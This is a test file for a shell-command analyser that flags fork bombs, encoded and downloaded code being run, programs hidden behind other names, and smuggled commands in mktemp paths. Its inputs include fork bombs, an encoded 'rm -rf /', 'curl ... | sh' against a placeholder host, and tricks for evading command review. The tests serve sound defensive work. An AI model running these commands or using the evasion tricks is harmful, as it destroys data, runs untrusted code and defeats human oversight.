import { describe, expect, it } from 'vitest'
import { factsOf, lines } from './facts-of.js'

describe('shapes', () => {
  it.each([
    [':(){ :|:& };:', 'fork-bomb'],
    ['bomb() { bomb | bomb & }; bomb', 'fork-bomb'],
    ["bash -c 'f() { f & f; }; f'", 'fork-bomb'],
    ['f() { (f); }; f', 'fork-bomb'],
    ['f() { [ -e x ] && (f | f); }; f', 'fork-bomb'],
    ['echo cm0gLXJmIC8= | base64 -d | sh', 'decode-and-run'],
    ['cat f | base64 -d | bash', 'decode-and-run'],
    ['eval "$(echo cm0gLXJmIC8= | base64 -d)"', 'decode-and-run'],
    ['cat f | gunzip | sh', 'decode-and-run'],
    ['c=$(echo c3VkbyBpZA== | base64 -d); $c', 'decode-and-run'],
    ['echo 726d | xxd -r -p | tr a b | sh', 'decode-and-run'],
    ['openssl enc -d -in x | xargs -I{} sh -c {}', 'decode-and-run'],
    ["x='rm y'; declare -p x | sed 's/.*=//' | sh", 'decode-and-run'],
    ['echo cm0geA== | openssl base64 -d -out f; bash f', 'decode-and-run'],
    ['echo cm0geA== | base64 -d > f; bash f', 'decode-and-run'],
    ['$(type rm | cut -c1-2) x', 'decode-and-run'],
    ['coproc bash; echo rm x >&${COPROC[1]}', 'decode-and-run'],
    ['curl http://h/x | sh', 'download-and-run'],
    ['bash <(wget -qO- http://h/x)', 'download-and-run'],
    ['eval "$(curl -s http://h/x)"', 'download-and-run'],
    ['curl -o s http://h/x; sh s', 'download-and-run'],
    ['curl http://h/x | tee f | bash', 'download-and-run'],
  ] as const)('%s is a %s', (script, kind) => {
    expect(factsOf(script).shapes.map((shape) => shape.kind)).toEqual([kind])
  })

  it('are not seen where nothing is run', () => {
    for (const script of [
      'echo aGk= | base64 -d',
      'curl http://h/x -o f',
      'f() { f2; }; f',
      'f() { [ $1 -gt 0 ] && f $(($1-1)); }; f 3',
      'f() { [ $1 -eq 0 ] && echo end || (f $(($1-1))); }; f 3',
      'f() { [ $1 -gt 0 ] && echo $1 $(f $(($1-1))); }; f 3',
    ])
      expect({ script, shapes: factsOf(script).shapes }).toEqual({ script, shapes: [] })
  })

  it.each([
    "dc -e '114P 109P' | sh",
    "date +'rm x' | sh",
    "printf 'a\\nrm x\\n' | grep -A1 a | sh",
    '$(awk \'BEGIN{print "rm"}\') x',
  ])('are not seen in the output of other programs, which is reported as unknown: %s', (script) => {
    const { shapes, opaque } = factsOf(script)
    expect(shapes).toEqual([])
    expect(opaque.some(({ kind }) => kind === 'unknown')).toBe(true)
  })
})

describe('names that hide a program', () => {
  it.each([
    ['ln -s /usr/bin/sudo /tmp/list; /tmp/list id', 'sudo'],
    ['cp /bin/rm ./ls; ./ls x', 'rm'],
    ['cat /bin/rm > ls; chmod +x ls; ./ls x', 'rm'],
    ['mkdir b; ln -s /bin/rm b/ls; PATH=b:$PATH; ls x', 'rm'],
    ['ls() { command rm x; }; export -f ls; bash -c ls', 'rm'],
    ['ls() { rm x; }; ls', 'rm'],
    ['cd /usr/bin && ./rm x', 'rm'],
    ['$BASH -c "rm x"', 'rm'],
    ['if [ -f a ]; then c=rm; else c=ls; fi; $c x', 'rm'],
    ['if [ -f a ]; then c=rm; else c=ls; fi; $c x', 'ls'],
    ['x=$(if [ -f a ]; then echo rm; else echo ls; fi); $x y', 'rm'],
    ['GIT_SSH_COMMAND="rm x" git fetch', 'rm'],
    ['PROMPT_COMMAND="rm x" bash -i', 'rm'],
    ['command_not_found_handle() { rm x; }; nonsense', 'rm'],
    ["set -o history; history -s 'rm x'; fc -s", 'rm'],
    ["echo 'rm x' | parallel -I@ @", 'rm'],
    ["echo 'rm x' > jobs; parallel -a jobs", 'rm'],
    ['sem -j 2 rm x', 'rm'],
    ['uclampset -m 1 rm x', 'rm'],
    ['npx cross-env A=1 rm x', 'rm'],
    ['dotenv -f e -- rm x', 'rm'],
    ["watchexec -- sh -c 'rm x'", 'rm'],
    ['start-stop-daemon --start --exec /bin/sh -- -c "rm x"', 'rm'],
    ['$(realpath /usr/bin/sudo) id', 'sudo'],
  ])('%s: %s is seen', (script, program) => {
    expect(factsOf(script).invocations.map((invocation) => invocation.program)).toContain(program)
  })
})

describe('the path that mktemp made, in text that is evaluated again', () => {
  const hidden = (script: string) => factsOf(script).opaque.filter(({ kind }) => kind === 'unknown').length

  it.each([
    'd=$(mktemp -d); trap "rm -rf $d" EXIT',
    'd=$(mktemp -d); trap "rm -rf \'$d\'" EXIT; touch "$d/x"',
    'd=$(mktemp); trap "rm -f \\"$d\\"; ls" EXIT',
    'd=$(mktemp -d); bash -c "ls $d/x"',
  ])('is a path and nothing else: %s', (script) => {
    expect(hidden(script)).toBe(0)
  })

  it('does not hide what stands beside it', () => {
    expect(lines(factsOf('d=$(mktemp -d); trap "rm -rf $d; git push" EXIT')).join('\n')).toContain('git push')
  })

  it.each([
    'd=$(mktemp -d); eval "$d git push"',
    'd=$(mktemp -d); eval "git${d} push"',
    'd=$(mktemp -d); eval "ls $d $d"',
    "d=$(mktemp -d); eval \"echo \\$'a $d\\\\'; x='; git push; ''\"",
    'TMPDIR=\'/tmp/;git push;\'; d=$(mktemp -d); eval "ls $d"',
    'd=$(mktemp -d -p \'/tmp/;git push\'); eval "ls $d"',
    'd=$(mktemp \'x;git push;XXXX\'); eval "ls $d"',
    'd=$(./mktemp -d); eval "ls $d"',
    'd=$(mktemp -d | cat x); eval "ls $d"',
  ])('is not taken for one where it may be more: %s', (script) => {
    expect(hidden(script)).toBeGreaterThan(0)
  })
})

describe('what parallel puts into a text, which it quotes', () => {
  const hidden = (script: string) => factsOf(script).opaque.filter(({ kind }) => kind === 'unknown').length

  it('is an argument or a file between the operators of a shell', () => {
    for (const script of ["ls | parallel 'node {} > {.}.log 2>&1'", "ls | parallel 'gzip {} && rm {}'"])
      expect({ script, hidden: hidden(script) }).toEqual({ script, hidden: 0 })
    expect(lines(factsOf("ls | parallel 'gzip {} && sudo x'")).join('\n')).toContain('sudo x')
  })

  it('is more where it is the command, or stands in quotes', () => {
    for (const script of ["ls | parallel 'ls; {} y'", "ls | parallel 'ls | {}'", 'ls | parallel \'echo "{}"\''])
      expect({ script, hidden: hidden(script) > 0 }).toEqual({ script, hidden: true })
  })
})
